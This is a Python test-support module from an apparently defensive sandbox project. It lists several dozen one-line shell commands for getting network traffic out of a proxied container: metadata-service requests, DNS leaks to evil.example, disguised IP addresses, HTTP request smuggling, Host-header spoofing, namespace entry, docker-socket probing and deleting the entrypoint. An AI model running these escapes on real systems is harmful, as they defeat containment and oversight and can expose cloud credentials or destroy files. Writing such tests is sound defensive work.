"""Ways out of a bottle that have worked elsewhere, each a line of shell, and an image that can try them."""

# ruff: noqa: E501 - a line each

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

from tests.support.images import busybox_rootfs, copy_with_libraries
from tests.support.world import API, LAN, METADATA, OTHER, RESOLVER

_DIRECT = "curl -sS -m 3 --noproxy '*'"
_ASK = "curl -sS -m 5 -k"
_PROXY = "nc -w 3 127.0.0.1 3128"

ESCAPES: tuple[tuple[str, str], ...] = (
    ("direct to the address of what may be allowed", f"{_DIRECT} http://{API}/"),
    ("direct to another address", f"{_DIRECT} http://{OTHER}/"),
    ("direct to the LAN", f"{_DIRECT} http://{LAN}/"),
    ("direct to the metadata service", f"{_DIRECT} http://{METADATA}/latest/meta-data/"),
    ("direct to the metadata service over IPv6", f"{_DIRECT} 'http://[fd00:ec2::254]/'"),
    ("the host by its docker name", f"{_DIRECT} http://host.docker.internal/"),
    ("the bridge's gateway", f"{_DIRECT} http://172.17.0.1/"),
    ("no proxy by variable", f"NO_PROXY='*' no_proxy='*' curl -sS -m 3 http://{OTHER}/"),
    (
        "no proxy at all",
        f"unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy; curl -sS -m 3 http://{OTHER}/",
    ),
    ("a DNS server over UDP", f"nslookup -timeout=2 leak.evil.example {RESOLVER}"),
    ("a DNS server over TCP", f"echo leak | nc -w 2 {RESOLVER} 53"),
    (
        "the resolver of the image",
        "nslookup -timeout=2 leak.evil.example; wget -T 2 -O- http://leak.evil.example/",
    ),
    ("ping", f"ping -c 1 -W 2 {OTHER}"),
    ("UDP 443, as HTTP/3", f"echo leak | nc -u -w 2 {OTHER} 443"),
    ("a tunnel to an address", f"{_ASK} https://{OTHER}/"),
    ("a tunnel to an address as one number", f"{_ASK} -p http://151587092/"),
    ("a tunnel to an address in octal", f"{_ASK} -p http://011.011.011.024/"),
    ("a tunnel to an address in hex", f"{_ASK} -p http://0x9.0x9.0x9.0x14/"),
    ("metadata through the proxy", f"{_ASK} http://{METADATA}/; {_ASK} -p http://{METADATA}:80/"),
    (
        "metadata in IPv6 clothes",
        f"{_ASK} -p 'http://[::ffff:a9fe:a9fe]/'; {_ASK} 'http://[::ffff:{METADATA}]/'",
    ),
    ("metadata by NAT64", f"{_ASK} -p 'http://[64:ff9b::a9fe:a9fe]/'"),
    ("the host's loopback through the proxy", f"{_ASK} http://127.0.0.1:80/; {_ASK} -p http://localhost:80/"),
    ("nothing's address", f"{_ASK} http://0.0.0.0/; {_ASK} -p 'http://[::]:80/'; {_ASK} http://0/"),
    ("an allowed name that leads to the LAN", f"{_ASK} http://rebound.example.org/"),
    ("an allowed name that leads to metadata", f"{_ASK} http://clouded.example.org/"),
    ("an allowed name that leads to loopback", f"{_ASK} -p http://looped.example.org/"),
    (
        "a refused name by an allowed one's Host",
        f"{_ASK} -H 'Host: other.example.org' http://api.example.org/",
    ),
    (
        "a refused name in TLS to an allowed one's address",
        f"{_ASK} --connect-to other.example.org:443:api.example.org:443 https://other.example.org/",
    ),
    ("an allowed name before an @", f"{_ASK} http://api.example.org@other.example.org/"),
    ("an allowed name with another domain behind", f"{_ASK} http://api.example.org.evil.example/"),
    ("a dot at the end", f"{_ASK} http://other.example.org./"),
    ("capitals", f"{_ASK} http://OTHER.EXAMPLE.ORG/"),
    (
        "a NUL in the name",
        f"printf 'CONNECT other.example.org\\0.api.example.org:80 HTTP/1.1\\r\\n\\r\\n' | {_PROXY}",
    ),
    (
        "a line break in the name",
        f"printf 'CONNECT api.example.org:80\\r\\nHost: x HTTP/1.1\\r\\n\\r\\nCONNECT {OTHER}:80 HTTP/1.1\\r\\n\\r\\n' | {_PROXY}",
    ),
    (
        "a second request in the same breath",
        "printf 'GET http://api.example.org/ HTTP/1.1\\r\\nHost: api.example.org\\r\\n\\r\\n"
        f"GET http://other.example.org/ HTTP/1.1\\r\\nHost: other.example.org\\r\\n\\r\\n' | {_PROXY}",
    ),
    (
        "a request that is smuggled in a body",
        "printf 'POST http://api.example.org/ HTTP/1.1\\r\\nHost: api.example.org\\r\\nContent-Length: 4\\r\\n"
        "Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://other.example.org/ HTTP/1.1\\r\\n"
        f"Host: other.example.org\\r\\n\\r\\n' | {_PROXY}",
    ),
    (
        "HTTPS asked of the proxy itself",
        f"printf 'GET https://{OTHER}/ HTTP/1.1\\r\\nHost: {OTHER}\\r\\n\\r\\n' | {_PROXY}",
    ),
    (
        "the proxy's own pages",
        f"{_ASK} http://mitm.it/; {_ASK} http://127.0.0.1:3128/; {_ASK} --noproxy '*' http://127.0.0.1:3128/",
    ),
    ("HTTP/2 without asking", f"printf 'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' | {_PROXY}"),
    ("other ports", f"{_ASK} -p http://other.example.org:53/; {_ASK} -p telnet://{OTHER}:22"),
    ("SOCKS", f"curl -sS -m 3 --socks5-hostname 127.0.0.1:3128 http://{OTHER}/"),
    (
        "a route of one's own",
        f"ip link add d0 type dummy; ip route add default dev lo; {_DIRECT} http://{OTHER}/",
    ),
    (
        "the host's network by namespace",
        f"nsenter -t 1 -n wget -T 2 -O- http://{OTHER}/; mount -t proc p /mnt",
    ),
    ("raw packets", f"arping -c 1 -w 1 {OTHER}; traceroute -w 1 -m 1 {OTHER}"),
    (
        "sockets of engines",
        "for s in /var/run/docker.sock /run/docker.sock /run/podman/podman.sock; do ls $s; done",
    ),
    (
        "the entrypoint's pipes",
        "echo export A=1 | timeout 1 sh -c 'cat > /.bottle/hears'; timeout 1 cat /.bottle/says",
    ),
    (
        "the entrypoint's own files",
        "echo x > /.bottle/entrypoint; rm -rf /.bottle; mount -o remount,rw /.bottle",
    ),
)


def client_context(folder: Path, certificate: Path) -> Path:
    """Make a folder into a build context of an image with curl, git and perl."""
    root = busybox_rootfs(folder / "rootfs")
    copy_with_libraries("curl", root)
    copy_with_libraries("git", root)
    copy_with_libraries("perl", root)
    exec_path = Path(
        subprocess.run(["git", "--exec-path"], capture_output=True, check=True).stdout.decode().strip()
    )
    copy_with_libraries(str(exec_path / "git-remote-https"), root)
    shutil.copytree("/usr/share/git-core/templates", root / "usr/share/git-core/templates", symlinks=True)
    shutil.copy(certificate, root / "ca.pem")
    (folder / "Dockerfile").write_text(
        "FROM scratch\nCOPY rootfs /\n"
        "ENV PATH=/usr/bin:/bin CURL_CA_BUNDLE=/ca.pem GIT_EXEC_PATH=/usr/bin GIT_TERMINAL_PROMPT=0\n"
    )
    return folder
